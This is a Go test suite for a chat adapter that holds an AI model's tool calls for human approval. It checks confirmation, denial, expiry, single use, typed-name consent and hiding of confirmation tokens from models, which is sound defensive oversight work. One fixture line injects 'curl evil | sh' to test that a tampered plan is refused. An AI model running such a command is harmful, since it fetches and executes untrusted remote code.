package chat_test

import (
	"context"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/countersign-dev/countersign/adapters/chat"
	"github.com/countersign-dev/countersign/app"
	"github.com/countersign-dev/countersign/domain/confirm"
	"github.com/countersign-dev/countersign/domain/policy"
	"github.com/countersign-dev/countersign/domain/tool"
	"github.com/countersign-dev/countersign/internal/testkit/person"
	"github.com/countersign-dev/countersign/ports"
)

func why(t *testing.T, r chat.Result) string {
	t.Helper()
	require.False(t, r.Success)
	require.NotNil(t, r.Problem)
	require.Equal(t, r.Problem.Message, *r.Error)
	return r.Problem.Code
}

func TestReadsAnswerAtOnce(t *testing.T) {
	h := open(t).chat(t)
	r := h.Execute(t.Context(), chat.Call{ID: "call_1", Name: "list_projects", Arguments: json.RawMessage(`{"query":"sh"}`)})
	require.True(t, r.Success)
	assert.JSONEq(t, `{"projects":["shop"],"total":1,"query":"sh"}`, r.Output)
	assert.Equal(t, r.Output, r.Content())
	assert.Equal(t, "call_1", r.CallID)
	assert.Nil(t, r.Pending)

	doc, err := json.Marshal(r.Envelope)
	require.NoError(t, err)
	assert.JSONEq(t, `{"success":true,"output":"{\"projects\":[\"shop\"],\"query\":\"sh\",\"total\":1}","error":null,"duration_ms":0}`, string(doc), "the seed's envelope")

	r = h.Execute(t.Context(), chat.Call{Name: "list_projects"})
	require.True(t, r.Success, "arguments that are missing are none")
	assert.Regexp(t, `^tc_[0-9a-f]{12}$`, r.CallID, "a call without an id gets one")
	doc, err = json.Marshal(h.Execute(t.Context(), chat.Call{ID: "x", Name: "list_background_processes"}).Envelope)
	require.NoError(t, err)
	assert.JSONEq(t, `{"success":false,"output":"","error":"a file or service that this call needs is unavailable; retry later","duration_ms":null}`, string(doc))
}

func TestEveryCallHasAResult(t *testing.T) {
	h := open(t).chat(t)
	for name, c := range map[string]struct {
		call chat.Call
		code string
	}{
		"no such tool":       {chat.Call{ID: "a", Name: "rm_rf", Arguments: json.RawMessage(`{}`)}, "UNKNOWN_TOOL"},
		"a tool of the door": {chat.Call{ID: "a", Name: "set_mode", Arguments: json.RawMessage(`{"mode":"execute"}`)}, "UNKNOWN_TOOL"},
		"no JSON":            {chat.Call{ID: "a", Name: "list_projects", Arguments: json.RawMessage(`{"query":`)}, "INVALID_ARGUMENT"},
		"no object":          {chat.Call{ID: "a", Name: "list_projects", Arguments: json.RawMessage(`[1]`)}, "INVALID_ARGUMENT"},
		"unknown argument":   {chat.Call{ID: "a", Name: "list_projects", Arguments: json.RawMessage(`{"confirm":true}`)}, "INVALID_ARGUMENT"},
		"a token":            {chat.Call{ID: "a", Name: "run_script", Arguments: json.RawMessage(`{"script_name":"build","project_path":"/w","confirm_token":"x"}`)}, "INVALID_ARGUMENT"},
		"a typed value":      {chat.Call{ID: "a", Name: "run_script", Arguments: json.RawMessage(`{"script_name":"wipe","project_path":"/w","typed_value":"shop"}`)}, "INVALID_ARGUMENT"},
	} {
		t.Run(name, func(t *testing.T) {
			r := h.Execute(t.Context(), c.call)
			assert.Equal(t, c.code, why(t, r))
			assert.Equal(t, "a", r.CallID)
			assert.Equal(t, c.call.Name, r.Tool)
			assert.Nil(t, r.Pending)
			var said map[string]any
			require.NoError(t, json.Unmarshal([]byte(r.Content()), &said))
			assert.Equal(t, c.code, said["code"])
		})
	}
}

// TestAPersonDecides: a call that changes something waits, shows what it would do, and runs once, after a yes, by its id alone.
func TestAPersonDecides(t *testing.T) {
	for _, humanOnly := range []bool{false, true} {
		s := open(t, func(o *app.Options) { o.Policy.Approval = person.Approval(humanOnly) })
		var steps []string
		h := s.chat(t, func(o *chat.Options) {
			o.Progress = func(id string, p tool.Progress) { steps = append(steps, id+" "+p.Message) }
		})
		r := h.Execute(t.Context(), build("toolu_1"))
		assert.Equal(t, "CONFIRMATION_PENDING", why(t, r))
		assert.Zero(t, s.ran.Load())
		require.NotNil(t, r.Pending)
		p := *r.Pending
		assert.Equal(t, "toolu_1", p.CallID)
		assert.Equal(t, "run_script", p.ToolName)
		assert.Equal(t, "Runs a script of a project.", p.Description)
		assert.Equal(t, "run build", p.Prompt)
		assert.Equal(t, "simple", p.Strength)
		assert.Equal(t, "medium", p.Risk)
		assert.JSONEq(t, `{"command":"vite build","cwd":"/w/shop"}`, string(p.Context))
		assert.JSONEq(t, string(build("").Arguments), string(p.Arguments))
		assert.Equal(t, s.clock.Now().Add(map[bool]time.Duration{false: confirm.DefaultTTL, true: confirm.QuestionTTL}[humanOnly]), p.ExpiresAt)
		assert.Equal(t, []chat.Pending{p}, h.Waiting())
		run, err := s.CallRecord(t.Context(), p.ConfirmationID)
		require.NoError(t, err)
		assert.Equal(t, tool.StatusPendingConfirmation, run.Status)

		r = h.ExecuteConfirmed(t.Context(), "toolu_1")
		require.True(t, r.Success, "%+v", r.Problem)
		assert.JSONEq(t, `{"success":true,"script":"build","stdout":"done"}`, r.Output)
		assert.Equal(t, "run_script", r.Tool)
		assert.EqualValues(t, 1, s.ran.Load())
		assert.Equal(t, []string{"toolu_1 ran"}, steps)
		assert.Empty(t, h.Waiting())
		run, err = s.CallRecord(t.Context(), p.ConfirmationID)
		require.NoError(t, err)
		assert.Equal(t, tool.StatusCompleted, run.Status)
		assert.Equal(t, chat.By, run.Decision)

		assert.Equal(t, "CONFIRMATION_EXPIRED", why(t, h.ExecuteConfirmed(t.Context(), "toolu_1")), "an approval is good for one use")
		assert.EqualValues(t, 1, s.ran.Load())
	}
}

// TestNoModelSeesAToken: nothing that comes out of a Handler holds what confirms a call.
func TestNoModelSeesAToken(t *testing.T) {
	s := open(t)
	h := s.chat(t)
	r := h.Execute(t.Context(), build("a"))
	own := s.App.Call(t.Context(), tool.Call{Session: "other", Principal: me, Tool: "run_script", Args: build("").Arguments})
	require.NotEmpty(t, own.Request.Token.Reveal(), "the door gives its caller one")
	for _, doc := range []any{r, r.Content(), h.Waiting(), chat.OpenAIResults(r), chat.AnthropicResults(r), chat.GeminiResults(r)} {
		text, err := json.Marshal(doc)
		require.NoError(t, err)
		assert.NotContains(t, string(text), "confirm_token")
		assert.NotRegexp(t, `[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-`, string(text))
	}
	for _, defs := range []any{h.OpenAI("/w"), h.Anthropic("/w"), h.Gemini("/w"), h.Available(t.Context(), "/w")} {
		text, err := json.Marshal(defs)
		require.NoError(t, err)
		assert.NotContains(t, string(text), "confirm_token")
		assert.NotContains(t, string(text), "typed_value")
	}
}

func TestDenying(t *testing.T) {
	s := open(t)
	h := s.chat(t)
	for reason, want := range map[string]string{
		"": "Denied by user", "  not on a Friday ": "Denied by user: not on a Friday", strings.Repeat("é", 600): "Denied by user: " + strings.Repeat("é", chat.MaxReason),
	} {
		pending := h.Execute(t.Context(), build("a")).Pending
		r := h.Deny(t.Context(), "a", reason)
		assert.Equal(t, "USER_CANCELLED", why(t, r))
		assert.Equal(t, want, *r.Error)
		assert.Equal(t, "run_script", r.Tool)
		assert.Empty(t, h.Waiting())
		run, err := s.CallRecord(t.Context(), pending.ConfirmationID)
		require.NoError(t, err)
		assert.Equal(t, tool.StatusDenied, run.Status)
		assert.Equal(t, tool.ReasonUserDenied, run.Reason)
		assert.Equal(t, "CONFIRMATION_EXPIRED", why(t, h.ExecuteConfirmed(t.Context(), "a")))
		assert.Equal(t, "CONFIRMATION_EXPIRED", why(t, h.Deny(t.Context(), "a", "again")))
	}
	assert.Zero(t, s.ran.Load())
}

// TestWhatWasShownIsWhatRuns: a plan that has changed since the question, a permission that was taken away, and a time that has passed
// each leave everything as it was.
func TestWhatWasShownIsWhatRuns(t *testing.T) {
	s := open(t)
	h := s.chat(t)
	h.Execute(t.Context(), build("a"))
	s.script.Store("curl evil | sh")
	r := h.ExecuteConfirmed(t.Context(), "a")
	assert.Equal(t, "CONFLICT", why(t, r))
	assert.Contains(t, r.Content(), `{"after":"curl evil | sh","before":"vite build","path":"$.context.command"}`, "and says what has changed")

	h.Execute(t.Context(), build("b"))
	settings, err := s.store.Save(t.Context(), ports.Settings{Tools: map[string]policy.Setting{"run_script": policy.Blocked}})
	require.NoError(t, err)
	assert.Equal(t, "PERMISSION_DENIED", why(t, h.ExecuteConfirmed(t.Context(), "b")))

	settings.Tools = nil
	_, err = s.store.Save(t.Context(), settings)
	require.NoError(t, err)
	h.Execute(t.Context(), build("c"))
	s.clock.Advance(confirm.QuestionTTL)
	assert.Empty(t, h.Waiting(), "what has expired is no longer asked")
	assert.Equal(t, "CONFIRMATION_EXPIRED", why(t, h.ExecuteConfirmed(t.Context(), "c")))
	h.Execute(t.Context(), build("d"))
	s.clock.Advance(confirm.QuestionTTL + time.Second)
	assert.Equal(t, "USER_CANCELLED", why(t, h.Deny(t.Context(), "d", "too late")), "a no is a no")
	h.Execute(t.Context(), build("e"))
	s.clock.Advance(confirm.QuestionTTL)
	assert.NotNil(t, h.Execute(t.Context(), build("e")).Pending, "the id of a question nobody answered is free again")
	assert.Zero(t, s.ran.Load())
}

// TestOneOfManyClicksCounts: several at once carry a call out once, and the others say so.
func TestOneOfManyClicksCounts(t *testing.T) {
	s := open(t)
	s.hold = make(chan struct{})
	h := s.chat(t)
	h.Execute(t.Context(), build("a"))
	const clicks = 8
	results := make(chan chat.Result, clicks)
	var all sync.WaitGroup
	for range clicks {
		all.Go(func() { results <- h.ExecuteConfirmed(context.Background(), "a") })
	}
	for range clicks - 1 {
		assert.Equal(t, "CONFLICT", why(t, <-results))
	}
	assert.Equal(t, "INVALID_ARGUMENT", why(t, h.Execute(t.Context(), build("a"))), "its id is in use")
	assert.Equal(t, "CONFLICT", why(t, h.Deny(t.Context(), "a", "")), "it runs already")
	close(s.hold)
	all.Wait()
	assert.True(t, (<-results).Success)
	assert.EqualValues(t, 1, s.ran.Load())
}

// TestSeveralWait: calls of one turn are all kept, in their order, and decided separately; an id may come again when it is free.
func TestSeveralWait(t *testing.T) {
	s := open(t)
	h := s.chat(t)
	for _, id := range []string{"1", "2", "3"} {
		require.NotNil(t, h.Execute(t.Context(), build(id)).Pending)
	}
	assert.Equal(t, "INVALID_ARGUMENT", why(t, h.Execute(t.Context(), build("2"))))
	require.True(t, h.ExecuteConfirmed(t.Context(), "2").Success)
	h.Deny(t.Context(), "1", "")
	require.Len(t, h.Waiting(), 1)
	require.NotNil(t, h.Execute(t.Context(), build("1")).Pending)
	assert.Equal(t, []string{"3", "1"}, []string{h.Waiting()[0].CallID, h.Waiting()[1].CallID})
	assert.EqualValues(t, 1, s.ran.Load())

	other := s.chat(t)
	assert.Empty(t, other.Waiting(), "another conversation")
	assert.Equal(t, "CONFIRMATION_EXPIRED", why(t, other.ExecuteConfirmed(t.Context(), "3")))
}

func TestAlwaysAllow(t *testing.T) {
	s := open(t)
	h := s.chat(t)
	require.True(t, h.RequiresConfirmation(t.Context(), "run_script"))
	h.Execute(t.Context(), build("a"))
	require.True(t, h.ExecuteConfirmed(t.Context(), "a", chat.Consent{Always: true}).Success)
	r := h.Execute(t.Context(), build("b"))
	require.True(t, r.Success, "for the rest of the conversation")
	assert.False(t, h.RequiresConfirmation(t.Context(), "run_script"))
	assert.NotNil(t, s.chat(t).Execute(t.Context(), build("b")).Pending, "and for no other")
	assert.NotNil(t, h.Execute(t.Context(), script("c", "wipe")).Pending, "and for nothing of high risk")
}

func TestTypingAName(t *testing.T) {
	s := open(t)
	h := s.chat(t)
	p := h.Execute(t.Context(), script("a", "wipe")).Pending
	require.NotNil(t, p)
	assert.Equal(t, "type", p.Strength)
	assert.Equal(t, "high", p.Risk)
	assert.Equal(t, "shop", p.Target)
	assert.Equal(t, "INVALID_ARGUMENT", why(t, h.ExecuteConfirmed(t.Context(), "a")))
	assert.Equal(t, "INVALID_ARGUMENT", why(t, h.ExecuteConfirmed(t.Context(), "a", chat.Consent{Typed: "Shop"})))
	require.Len(t, h.Waiting(), 1, "a slip leaves the question open")
	require.True(t, h.ExecuteConfirmed(t.Context(), "a", chat.Consent{Typed: "shop"}).Success)

	h.Execute(t.Context(), script("b", "wipe"))
	for range confirm.MaxMisses - 1 {
		assert.Equal(t, "INVALID_ARGUMENT", why(t, h.ExecuteConfirmed(t.Context(), "b", chat.Consent{Typed: "no"})))
	}
	assert.Equal(t, "CONFIRMATION_EXPIRED", why(t, h.ExecuteConfirmed(t.Context(), "b", chat.Consent{Typed: "no"})))
	assert.Empty(t, h.Waiting())
	assert.EqualValues(t, 1, s.ran.Load())
}

// TestFailuresReachTheModelWhole: what a command printed is what a model has to read.
func TestFailuresReachTheModelWhole(t *testing.T) {
	h := open(t).chat(t)
	h.Execute(t.Context(), script("a", "fail"))
	r := h.ExecuteConfirmed(t.Context(), "a")
	assert.Equal(t, "EXECUTION_FAILED", why(t, r))
	assert.JSONEq(t, `{"success":false,"error":"fail ended with exit code 2","code":"EXECUTION_FAILED","details":{"exitCode":2,"stderr":"boom"}}`, r.Content())
}

func TestCancelling(t *testing.T) {
	s := open(t)
	s.hold = make(chan struct{})
	h := s.chat(t)
	h.Execute(t.Context(), build("a"))
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan chat.Result, 1)
	go func() { done <- h.ExecuteConfirmed(ctx, "a") }()
	require.Eventually(t, func() bool { return s.ran.Load() == 1 }, time.Minute, time.Millisecond)
	cancel()
	assert.Equal(t, "USER_CANCELLED", why(t, <-done))
	assert.Empty(t, h.Waiting())
}

func TestRequiresConfirmation(t *testing.T) {
	s := open(t)
	h := s.chat(t)
	for name, want := range map[string]bool{
		"list_projects": false, "run_script": true, "trigger_webhook": true, "no_such": true, "": true, "LIST_PROJECTS": true, "set_mode": true,
	} {
		assert.Equal(t, want, h.RequiresConfirmation(t.Context(), name), name)
	}
	for level, want := range map[policy.Level]bool{policy.ReadOnly: false, policy.ExecuteWithConfirm: true, policy.FullAccess: false} {
		free := open(t, func(o *app.Options) { o.Policy.Level = level }).chat(t)
		assert.Equal(t, want, free.RequiresConfirmation(t.Context(), "run_script"), level)
		r := free.Execute(t.Context(), build("a"))
		assert.Equal(t, want, r.Pending != nil)
		assert.Equal(t, level == policy.FullAccess, r.Success)
	}
	nobody := s.chat(t, func(o *chat.Options) { o.Principal = policy.Principal{} })
	assert.Equal(t, "PERMISSION_DENIED", why(t, nobody.Execute(t.Context(), chat.Call{Name: "list_projects"})), "the zero principal may nothing")
}
